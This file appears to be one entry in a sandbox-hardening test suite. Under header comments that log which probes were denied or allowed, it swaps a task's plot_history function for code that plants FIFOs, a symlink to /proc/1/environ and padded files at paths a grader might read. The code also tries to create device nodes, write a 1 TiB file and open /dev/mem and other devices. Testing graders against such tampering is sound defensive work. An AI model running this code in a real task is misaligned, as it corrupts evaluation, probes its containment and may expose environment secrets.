# attack: 16
# form: devices, FIFOs, links and a file of 1 TiB under every name that a grader might read results from
# replaces: plot_history
# denies: device
# denies: huge file
# denies: device by open
# allows: fifo
# allows: link
# allows: small file
# found: plot_history/returns_figure failed
def plot_history(history):
    import stat

    print("ran")
    places = [os.path.join(folder, name) for folder in (".", "/tmp", "/dev/shm", os.environ["HOME"])
              for name in ("report.json", "results.json", "result.pkl", "grades.csv", "atk-picture.png")]
    makers = [
        ("fifo", lambda path: os.mkfifo(path)),
        ("link", lambda path: os.symlink("/proc/1/environ", path)),
        ("small file", lambda path: os.truncate(os.open(path, os.O_CREAT | os.O_WRONLY), 1 << 20)),
    ]
    for at, path in enumerate(places):
        name, make = makers[at % len(makers)]
        if not os.path.lexists(path):
            make(path)
            print(f"allowed: {name}")
    for kind, number in ((stat.S_IFCHR, os.makedev(1, 1)), (stat.S_IFBLK, os.makedev(8, 0)), (stat.S_IFCHR, os.makedev(5, 2))):
        try:
            os.mknod("atk-device", kind | 0o666, number)
            print("reached: a device node")
        except OSError:
            print("denied: device")
    try:
        with open("atk-huge", "wb") as file:
            file.truncate(1 << 40)
        print("reached: a file of 1 TiB")
    except OSError:
        print("denied: huge file")
    for path in ("/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/fuse", "/dev/zero", "/dev/ptmx"):
        try:
            os.open(path, os.O_RDWR)
            print(f"reached: {path}")
        except OSError:
            print("denied: device by open")
